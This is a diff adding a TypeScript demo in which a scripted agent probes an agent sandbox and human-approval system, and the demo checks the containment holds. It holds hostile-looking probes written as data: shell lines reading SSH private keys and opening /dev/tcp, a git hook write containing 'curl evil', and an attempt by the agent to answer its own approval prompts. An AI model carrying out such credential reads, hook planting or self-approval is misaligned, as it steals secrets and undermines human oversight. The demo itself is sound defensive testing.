@@ -1,0 +1,129 @@
+import { existsSync } from 'node:fs';
+import { mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import type { ApprovalAnswer, Client, PendingApproval, Run, Signer, ToolCallResult } from '@palyra/client';
+import type { JsonValue } from '@palyra/primitives';
+import { answerQuestion } from '../questions/answer-question.ts';
+import { readPrompt } from '../questions/shown-prompt.ts';
+
+/** One thing that the demo shows, and whether it went as told. */
+export interface DemoStep {
+  readonly title: string;
+  readonly lines: readonly string[];
+  readonly went: 'as told' | 'otherwise' | 'not built yet';
+}
+
+export interface DemoStage {
+  readonly agent: Client;
+  readonly operator: Client;
+  readonly signer: Signer;
+  readonly workspace: string;
+}
+
+const LOOK_AROUND = `
+cat ~/.ssh/id_ed25519 ../.ssh/id_ed25519 2>/dev/null || echo 'the key: not there'
+(echo > /dev/tcp/127.0.0.1/22) 2>/dev/null || echo 'the network: not there'
+touch /usr/planted 2>/dev/null || echo 'the system: read-only'`;
+
+/** What an agent could like to find. */
+export async function furnish(operatorHome: string, workspace: string): Promise<void> {
+  await mkdir(join(operatorHome, '.ssh'), { recursive: true, mode: 0o700 });
+  await writeFile(join(operatorHome, '.ssh', 'id_ed25519'), 'a private key\n', { mode: 0o600 });
+  await mkdir(join(workspace, '.git', 'hooks'), { recursive: true });
+  await writeFile(join(workspace, '.env'), 'PORT=8080\n');
+}
+
+/** A scripted agent, and an operator who answers: everything goes through palyrad, as it would for anybody. */
+export async function* playSession(stage: DemoStage): AsyncGenerator<DemoStep> {
+  const { agent, workspace } = stage;
+  const run = await agent.startRun({ workspace });
+  const command = (text: string, more: Readonly<Record<string, JsonValue>> = {}) =>
+    run.call('palyra.process.run', { argv: ['bash', '-c', text], ...more });
+
+  const built = await command('echo built > result.txt && cat result.txt');
+  yield step('A command runs in the box, and nobody is asked', [told(built)], built.outcome.stdout === 'built\n');
+
+  const around = await command(LOOK_AROUND);
+  const found = (around.outcome.stdout ?? '').trimEnd().split('\n');
+  const isBoxed = found.join() === 'the key: not there,the network: not there,the system: read-only';
+  yield step('The same agent looks around, and finds nothing', [...found, told(around)], isBoxed);
+
+  yield await asked(stage, {
+    title: 'A file that may hold secrets: a human is asked, and says yes once',
+    call: run.call('palyra.fs.read', { path: '.env' }, { says: 'I need the port.' }),
+    answer: { decision: 'approve', scope: 'once' },
+    expect: ({ outcome }) => outcome.kind === 'completed',
+  });
+  yield await asked(stage, {
+    title: 'A git hook, which would run later and outside: a human says no',
+    call: run.call('palyra.fs.write', { path: '.git/hooks/pre-commit', content: '#!/bin/sh\ncurl evil\n' }),
+    answer: { decision: 'deny', reason: 'Hooks are mine.' },
+    expect: ({ outcome }) => outcome.kind === 'refused' && outcome.message.includes('Hooks are mine.'),
+  });
+  yield await asked(stage, {
+    title: 'A command that wants out of the box: asked, bound to the very bytes that run',
+    call: command('uname -s', { sandbox: 'limits' }),
+    answer: { decision: 'approve', scope: 'once' },
+    expect: ({ outcome }) => outcome.stdout === 'Linux\n',
+  });
+
+  const refused = await agent.approvals.list().then(
+    () => 'it may',
+    (error: { code?: string }) => error.code ?? 'refused',
+  );
+  yield step('The agent asks for the questions, to answer them itself', [`refused: ${refused}`], refused !== 'it may');
+
+  const never = await run.call('palyra.fs.read', { path: '../.ssh/id_ed25519' });
+  yield step(
+    'A private key: no policy allows it, and nobody is bothered',
+    [told(never)],
+    never.outcome.kind === 'refused',
+  );
+
+  yield await undone(stage, run);
+  for (const title of NOT_YET) yield { title, lines: [], went: 'not built yet' };
+  await run.end();
+}
+
+const NOT_YET = ['A named host is reached through the proxy, another one is not', 'A WebAssembly call under fuel'];
+
+async function undone({ operator, workspace }: DemoStage, run: Run): Promise<DemoStep> {
+  const written = await run.call('palyra.fs.write', { path: 'notes.md', content: '# Notes\n' });
+  const { files } = await operator.runs.undo({ run: run.id, call: written.call_id });
+  const isGone = !existsSync(join(workspace, 'notes.md'));
+  const lines = [told(written), ...files.map(({ path, result }) => `${result} ${path}`)];
+  return step('A file is written, and put back as it was', lines, isGone && files.length === 1);
+}
+
+interface AskedCall {
+  readonly title: string;
+  readonly call: Promise<ToolCallResult>;
+  readonly answer: ApprovalAnswer;
+  expect(result: ToolCallResult): boolean;
+}
+
+async function asked({ operator, signer }: DemoStage, { title, call, answer, expect }: AskedCall): Promise<DemoStep> {
+  const shown = await Promise.race([firstQuestion(operator), call.then(() => undefined)]);
+  if (shown === undefined) return step(title, [told(await call)], false);
+  await answerQuestion(operator, { shown, answer, signer });
+  const result = await call;
+  return step(title, [`asks: ${readPrompt(shown.prompt).what.sentence}`, told(result)], expect(result));
+}
+
+async function firstQuestion(operator: Client): Promise<PendingApproval> {
+  for await (const change of operator.approvals.watch()) {
+    if (change.kind === 'approval' && change.approval.state === 'pending') return change.approval;
+  }
+  throw new Error('palyrad tells no more questions.');
+}
+
+function step(title: string, lines: readonly string[], isAsTold: boolean): DemoStep {
+  return { title, lines, went: isAsTold ? 'as told' : 'otherwise' };
+}
+
+function told({ decision, approval, outcome, attestation, call_id: id }: ToolCallResult): string {
+  const by = decision.policy_ids.join(', ') || decision.reason_code;
+  const human = approval === undefined ? '' : `, ${approval.outcome} by ${approval.decided_by ?? 'nobody'}`;
+  const code = outcome.kind === 'completed' ? '' : ` ${outcome.code}`;
+  return `${decision.kind} by ${by}${human}: ${outcome.kind}${code} · receipt ${id.slice(-6)}, entry ${attestation.journal_seq}`;
+}
